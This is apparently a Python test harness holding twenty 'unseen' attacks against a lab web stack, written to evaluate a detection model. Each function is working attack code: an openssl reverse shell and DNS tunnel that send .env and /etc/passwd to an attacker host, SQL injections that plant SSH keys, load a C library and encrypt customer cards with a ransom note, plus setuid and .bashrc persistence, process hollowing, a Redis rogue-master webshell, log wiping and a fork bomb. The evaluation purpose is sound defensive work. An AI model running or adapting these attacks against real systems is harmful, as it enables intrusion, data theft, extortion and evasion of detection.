"""Attacks that were written after the model had been frozen, by somebody who did not build it. They are the test of a host of
its own; nothing is ever chosen on them."""
import base64
import os
import re
import socket
import ssl
import subprocess
import threading
import time

import unseen_evasive
from common import HOME, SECRET, Listener, converse, drain, mark
from unseen_common import KEY, own_key, tell_redis

# Visible.

def openssl_reverse_shell(enemy):
    """A shell over TLS by what is installed: a named pipe and openssl s_client."""
    key = own_key("tls", "tls.key")
    home = Listener(4447)
    enemy.later(enemy.inject, f"mkfifo /tmp/.q; /bin/sh -i < /tmp/.q 2>&1 | openssl s_client -quiet -connect {HOME}:4447 > /tmp/.q 2>/dev/null; rm -f /tmp/.q")
    if stream := home.wait():
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(key + ".pub", key)
        converse(context.wrap_socket(stream, server_side=True), ["id", "cat /srv/api/.env", "ls -la /home /srv/api", "cat /etc/crontab"], enemy.pause)


def dns_tunnel(enemy):
    """Node asks a name server of the attacker's for names that are the secrets, in pieces."""
    server = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    server.bind((HOME, 53))
    heard = {}

    def serve():
        while True:
            query, asker = server.recvfrom(2048)
            label = query[13:13 + query[12]].decode(errors="replace")
            number, _, piece = label.partition("-")
            if number.isdigit() and re.fullmatch("([0-9a-f]{2})*", piece):
                heard[int(number)] = bytes.fromhex(piece)
            # Its last character is followed by the end of the line.
            if re.search(KEY.pattern + rb"\n", b"".join(heard[n] for n in sorted(heard))):
                mark("harm")
            server.sendto(query[:2] + b"\x81\x83" + query[4:], asker)

    threading.Thread(target=serve, daemon=True).start()
    enemy.javascript("""(() => {
  const socket = require('dgram').createSocket('udp4'), all = fs.readFileSync('/srv/api/.env').toString('hex') + fs.readFileSync('/etc/passwd').toString('hex').slice(0, 1800);
  let at = 0;
  const turn = () => {
    if (at * 50 >= all.length) return socket.close();
    const label = Buffer.from(at + '-' + all.slice(at * 50, at * 50 + 50)), head = Buffer.from([at >> 8, at & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, label.length]);
    socket.send(Buffer.concat([head, label, Buffer.from('\\x03cdn\\x07example\\x00\\x00\\x10\\x00\\x01')]), 53, '%s'); at++; setTimeout(turn, 180);
  };
  socket.on('error', () => {}); turn(); return 1;
})()""" % HOME)
    enemy.pause(8)


def ssh_key_by_sql(enemy):
    """An injection writes the attacker's key where sshd looks for the database's own user; the rest is a session."""
    key = own_key("ssh", "door")
    with open(key + ".pub") as file:
        public = file.read().strip()
    enemy.sql("x'; copy (select 1) to program 'mkdir -p -m 700 /var/lib/postgresql/.ssh/'; select 1, 'x")
    enemy.sql(f"x'; copy (select '{public}') to '/var/lib/postgresql/.ssh/authorized_keys'; select 1, 'x")
    enemy.pause(1)
    for command in ["id; ls -l .ssh/", "ls .ssh/; psql -Atc 'select * from customer limit 4000' shop | gzip | base64"]:
        session = subprocess.run(
            ["ssh", "-i", key, "-o", "IdentitiesOnly=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
             "-o", "LogLevel=ERROR", "-o", f"BindAddress={HOME}", f"postgres@{enemy.site}", command], stdin=subprocess.DEVNULL, capture_output=True, timeout=20)
        if len(session.stdout) > 20_000:
            mark("harm")
        enemy.pause(1)


def udf_in_postgres(enemy):
    """A library travels in pieces of a query, is exported as a large object and becomes a function of the database."""
    drain(8444)
    path, image = "/var/lib/postgresql/15/main/libstats.so", enemy.tool("udf.so").hex()
    enemy.sql("x'; create table stat_part (n int, b text); select 1, 'x")
    for at in range(0, len(image), 3000):
        enemy.sql(f"x'; insert into stat_part values ({at}, '{image[at:at + 3000]}'); select 1, 'x")
    enemy.sql("x'; select lo_from_bytea(4711, decode(string_agg(b, '' order by n), 'hex')) from stat_part; select 1, 'x")
    enemy.sql(f"x'; select lo_export(4711, '{path}'); select 1, 'x")
    enemy.sql(f"x'; create function stats() returns int as '{path}', 'stats' language c; select 1, 'x")
    enemy.sql("x'; select stats(), 'x")
    enemy.sql("x'; drop function stats(); drop table stat_part; select lo_unlink(4711); select 1, 'x")


def setuid_drop(enemy):
    """A stolen session leaves a set-uid copy of bash; the web server's user becomes that person by it."""
    enemy.ssh("alice", enemy.password, "cp /bin/bash /var/tmp/.sync && chmod 4755 /var/tmp/.sync")
    for command in ["id", "ls -la /home/alice", "echo seen >> /home/alice/notes.txt; cat /home/alice/notes.txt"]:
        enemy.pause(1)
        if b"euid=" in enemy.inject(f"/var/tmp/.sync -p -c '{command}'"):
            mark("harm")


def bashrc_persistence(enemy):
    """A stolen session leaves a script and a line in .bashrc; it is the next login that starts it. That login is made here, too."""
    drain(8446)
    implant = f"import socket, time\nfor n in range(8):\n    s = socket.create_connection((\"{HOME}\", 8446), 3)\n    s.sendall(open(\"/etc/passwd\", \"rb\").read()[:300])\n    s.close()\n    time.sleep(0.6)\n"
    packed = base64.b64encode(implant.encode()).decode()
    enemy.ssh("alice", enemy.password, f"f=.cache/fonts.py; mkdir -p .cache && echo {packed} | base64 -d > $f && "
              "echo '(python3 ~/.cache/fonts.py > /dev/null 2>&1 < /dev/null &)' >> .bashrc")
    enemy.pause(1.5)
    enemy.ssh("alice", enemy.password, "uptime")
    enemy.pause(6)


def process_hollowing(enemy):
    """The API starts `sleep` and writes other code over the place where it will go on, through /proc/PID/mem."""
    drain(8447)
    code = base64.b64encode(enemy.tool("hollow")[:400]).decode()
    enemy.python(f"""
import base64, subprocess, time
p = subprocess.Popen(['sleep', '1.31'])
time.sleep(0.5)
pc = int(open('/proc/%d/syscall' % p.pid).read().split()[-1], 16)
with open('/proc/%d/mem' % p.pid, 'r+b', buffering=0) as m:
    m.seek(pc)
    m.write(base64.b64decode('{code}'))
r = pc""")
    enemy.pause(6)


def kernel_probing(enemy):
    """A program asks the kernel what it lets an ordinary user do, as one does before choosing an exploit."""
    enemy.upload("cover.bin", enemy.tool("probe"))
    enemy.upload("cover.php", b"<?php chmod(__DIR__ . '/cover.bin', 0755); echo shell_exec(__DIR__ . '/cover.bin 2>&1');")
    if b"probed" in enemy.php("cover.php"):
        mark("harm")


def backup_deletion(enemy):
    """The backup host asks nobody who he is: an empty folder is kept in step with it."""
    there = "rsync -r rsync://203.0.113.20/backup/"
    answer = enemy.inject(f"{there}; sleep 1; mkdir /tmp/.n; rsync -r --delete /tmp/.n/ rsync://203.0.113.20/backup/; rmdir /tmp/.n; echo =; {there}; echo =")
    before, after, *_ = answer.split(b"=\n") + [b"", b""]
    if b"database.sql.gz" in before and b"database.sql.gz" not in after:
        mark("harm")


def rogue_master(enemy):
    """Redis is made a replica of the attacker's, whose database is a PHP file."""
    payload = b"<?php @readfile($_GET['f']); ?>\n"
    home = Listener(6390)
    tell_redis(enemy, ("CONFIG", "SET", "dir", "/srv/www/uploads"), ("CONFIG", "SET", "dbfilename", "basket.php"), ("REPLICAOF", HOME, "6390"))
    if stream := home.wait():
        stream.settimeout(3)
        try:
            while b"PSYNC" not in (asked := stream.recv(4096)):
                stream.sendall(b"+PONG\r\n" if b"PING" in asked else b"+OK\r\n")
            stream.sendall(b"+FULLRESYNC " + b"a" * 40 + b" 1\r\n$%d\r\n" % len(payload) + payload)
        except OSError:
            pass
    enemy.pause(1)
    for path in ["/etc/passwd", "/srv/api/.env"]:
        if SECRET in enemy.php("basket.php", f=path):
            mark("harm")
        enemy.pause(1)
    tell_redis(enemy, ("REPLICAOF", "NO", "ONE"), ("CONFIG", "SET", "dir", "/var/lib/redis"), ("CONFIG", "SET", "dbfilename", "dump.rdb"))


def ssh_tunnel(enemy):
    """A stolen password and no session at all: sshd itself carries the attacker's psql to the database."""
    tunnel = subprocess.Popen(
        ["sshpass", "-p", enemy.password, "ssh", "-N", "-L", "15432:127.0.0.1:5432", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
         "-o", "LogLevel=ERROR", "-o", f"BindAddress={HOME}", f"alice@{enemy.site}"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    time.sleep(1.5)
    for offset in range(0, 20000, 5000):
        rows = subprocess.run(["psql", "-h", "127.0.0.1", "-p", "15432", "-U", "shop", "-Atc", f"select * from customer limit 5000 offset {offset}", "shop"],
                              env={**os.environ, "PGPASSWORD": "shop"}, stdin=subprocess.DEVNULL, capture_output=True, timeout=15)
        if len(rows.stdout) > 50_000:
            mark("harm")
        enemy.pause(1)
    tunnel.terminate()
    tunnel.wait(3)


# In-process.

def sql_file_reading(enemy):
    """The database reads files for the attacker: functions of its own, a COPY, a large object."""
    for text in ["x' union select 1, pg_read_file('/etc/passwd') --", "x' union select 1, string_agg(d, ' ') from pg_ls_dir('/srv/api') d --",
                 "x'; create table leak (line text); copy leak from '/srv/api/.env'; select 1, string_agg(line, ' ') from leak --",
                 "x'; select 1, convert_from(lo_get(lo_import('/etc/nginx/nginx.conf', 4712)), 'utf8') --", "x'; drop table leak; select lo_unlink(4712); select 1, 'x"]:
        if SECRET in enemy.sql(text):
            mark("harm")
        enemy.pause(1)


def sql_ransom(enemy):
    """Every customer's card is changed by a key, in four statements, and a note is left."""
    for quarter in range(4):
        answer = enemy.sql(f"x'; update customer set card = translate(card, '0123456789abcdef', '7c0f4a9e2b8d1635') where id % 4 = {quarter}; select id, card from customer where id = 4 --")
        # md5('4') under the key.
        if b"a87ff679a2f3e71d9181a67b7542122c".translate(bytes.maketrans(b"0123456789abcdef", b"7c0f4a9e2b8d1635")) in answer:
            mark("harm")
        enemy.pause(1.2)
    enemy.sql("x'; create table read_me (text text); insert into read_me values ('your cards are locked: pay'); select 1, 'x")


def request_hook(enemy):
    """The API's own view is replaced in its memory: every order is kept, then handed out."""
    hook = """
import os, sys
m = sys.modules['app']
if not hasattr(m, 'seen'):
    m.seen, m.old = [], m.app.view_functions['order']
    def hooked():
        m.seen.append(m.request.get_data(as_text=True)[:200])
        return m.old()
    m.app.view_functions['order'] = hooked
r = str(m.seen)"""
    unhook = """
import sys
m = sys.modules['app']
r = 'clean'
if hasattr(m, 'seen'):
    m.app.view_functions['order'] = m.old
    r = str(m.seen)
    del m.seen, m.old"""
    for _ in range(6):
        enemy.python(hook)
    for _ in range(9):
        enemy.pause(0.9)
        if b"product" in enemy.python(hook):
            mark("harm")
    for _ in range(12):
        enemy.python(unhook)


def memory_of_a_neighbour(enemy):
    """The API's process reads the memory of the Node process, which has the same user, for orders."""
    answer = enemy.python(r"""
import os, re
found = []
for pid in filter(str.isdigit, os.listdir('/proc')):
    try:
        if os.readlink('/proc/%s/exe' % pid) != '/usr/bin/node': continue
        regions = [line.split() for line in open('/proc/%s/maps' % pid)]
        with open('/proc/%s/mem' % pid, 'rb', buffering=0) as memory:
            for region in regions:
                first, last = (int(x, 16) for x in region[0].split('-'))
                if not region[1].startswith('rw') or last - first > 1 << 26 or len(found) > 5: continue
                for at in range(first, last, 1 << 18):
                    try:
                        memory.seek(at)
                        found += re.findall(rb'.order.: ?\d+, ?.product.: ?\d+', memory.read(min(1 << 18, last - at)))
                    except OSError: break
    except OSError: pass
r = str(found[:8])""")
    if b"product" in answer:
        mark("harm")


def neighbours_environment(enemy):
    """The Node process goes through /proc: who is there, with which words, environment and open files."""
    for what in ["fs.readFileSync('/proc/' + p + '/status', 'latin1').slice(0, 200)", "fs.readFileSync('/proc/' + p + '/cmdline', 'latin1')",
                 "fs.readFileSync('/proc/' + p + '/cmdline', 'latin1') + fs.readFileSync('/proc/' + p + '/environ', 'latin1')",
                 "fs.readdirSync('/proc/' + p + '/fd').map((f) => fs.readlinkSync('/proc/' + p + '/fd/' + f)).join()"]:
        answer = enemy.javascript(f"fs.readdirSync('/proc').filter((p) => /^\\d+$/.test(p)).map((p) => {{ try {{ return {what}; }} catch (e) {{ return ''; }} }}).join('\\n')")
        if any(b"gunicorn" in line and b"HOME=" in line for line in answer.split(b"\n")):
            mark("harm")
        enemy.pause(1.2)


def cache_poisoning(enemy):
    """PHP puts products of the attacker's into the cache that its own pages come from: where to pay, and how little."""
    enemy.upload("offer.php", b"""<?php
$socket = fsockopen('127.0.0.1', 6379, $code, $text, 1.0);
for ($id = (int) $_GET['n']; $id < $_GET['n'] + 60; $id++) {
    $key = "product:$id"; $value = json_encode(['id' => $id, 'name' => 'pay to account 4711', 'price' => 1]);
    fwrite($socket, "*4\\r\\n\\$5\\r\\nSETEX\\r\\n\\$" . strlen($key) . "\\r\\n$key\\r\\n\\$2\\r\\n25\\r\\n\\$" . strlen($value) . "\\r\\n$value\\r\\n");
    fgets($socket); usleep(4000);
}
echo 'done';""")
    for first in range(1, 300, 60):
        enemy.php("offer.php", n=first)
        if b"account 4711" in enemy.http("GET", f"/?p={first}&theme=plain"):
            mark("harm")
        enemy.pause(1)


def log_wiping(enemy):
    """PHP takes the attacker's lines out of nginx's log, which the web server's user may write, and puts the time back."""
    enemy.upload("tidy.php", b"""<?php
$path = '/var/log/nginx/access.log'; $time = filemtime($path); $file = fopen($path, 'r+'); $kept = ''; $gone = 0;
while (($line = fgets($file)) !== false) if (str_starts_with($line, '198.51.100.7 ')) $gone++; else $kept .= $line;
ftruncate($file, 0); rewind($file); fwrite($file, $kept); fclose($file); touch($path, $time);
clearstatcache(); echo "gone $gone left " . substr_count(file_get_contents($path), "\\n198.51.100.7 ") . '.';""")
    for _ in range(4):
        enemy.http("GET", "/?p=1&theme=dark")
        if re.search(rb"gone [1-9]\d* left 0\.", enemy.php("tidy.php")):
            mark("harm")
        enemy.pause(1.4)


def redis_through_node(enemy):
    """The Node process listens for the attacker and carries what comes to Redis, its usual peer."""
    enemy.javascript("""(() => {
  const open = new Set(), server = net.createServer((c) => { const s = net.connect(6379, '127.0.0.1'); open.add(c); c.pipe(s); s.pipe(c); c.on('error', () => {}); s.on('error', () => {}); });
  server.listen(9009, '0.0.0.0'); setTimeout(() => { server.close(); open.forEach((c) => c.destroy()); }, 10000); return 1;
})()""")
    enemy.pause(0.5)
    try:
        with socket.create_connection((enemy.site, 9009), 3, (HOME, 0)) as stream:
            stream.settimeout(3)
            for command in [b"INFO server", b"KEYS *", b"LRANGE orders 0 -1", b"CONFIG GET dir", b"CLIENT LIST", b"SET greeting owned", b"DEL greeting"]:
                stream.sendall(command + b"\r\n")
                time.sleep(0.3)
                if b"product:" in stream.recv(1 << 20):
                    mark("harm")
                enemy.pause(0.7)
    except OSError:
        pass


def fork_bomb_light(enemy):
    """A shell that doubles itself six times; each at the bottom counts, and no other program is started."""
    answer = enemy.later(enemy.inject, "f() { if [ $1 -gt 0 ]; then f $(($1-1)) & f $(($1-1)) & wait; else i=0; while [ $i -lt 60000 ]; do i=$((i+1)); done; fi; }; f 6 & echo $! > /srv/www/uploads/go.txt; wait")
    for _ in range(40):
        if b" 200 " in enemy.http("GET", "/uploads/go.txt")[:20]:
            mark("harm")
            break
        time.sleep(0.1)
    answer.join(20)


ATTACKS = {
    "openssl-reverse-shell": openssl_reverse_shell,
    "dns-tunnel": dns_tunnel,
    "ssh-key-by-sql": ssh_key_by_sql,
    "udf-in-postgres": udf_in_postgres,
    "setuid-drop": setuid_drop,
    "bashrc-persistence": bashrc_persistence,
    "process-hollowing": process_hollowing,
    "kernel-probing": kernel_probing,
    "backup-deletion": backup_deletion,
    "rogue-master": rogue_master,
    "ssh-tunnel": ssh_tunnel,
    "sql-file-reading": sql_file_reading,
    "sql-ransom": sql_ransom,
    "request-hook": request_hook,
    "memory-of-a-neighbour": memory_of_a_neighbour,
    "neighbours-environment": neighbours_environment,
    "cache-poisoning": cache_poisoning,
    "log-wiping": log_wiping,
    "redis-through-node": redis_through_node,
    "fork-bomb-light": fork_bomb_light,
} | unseen_evasive.ATTACKS
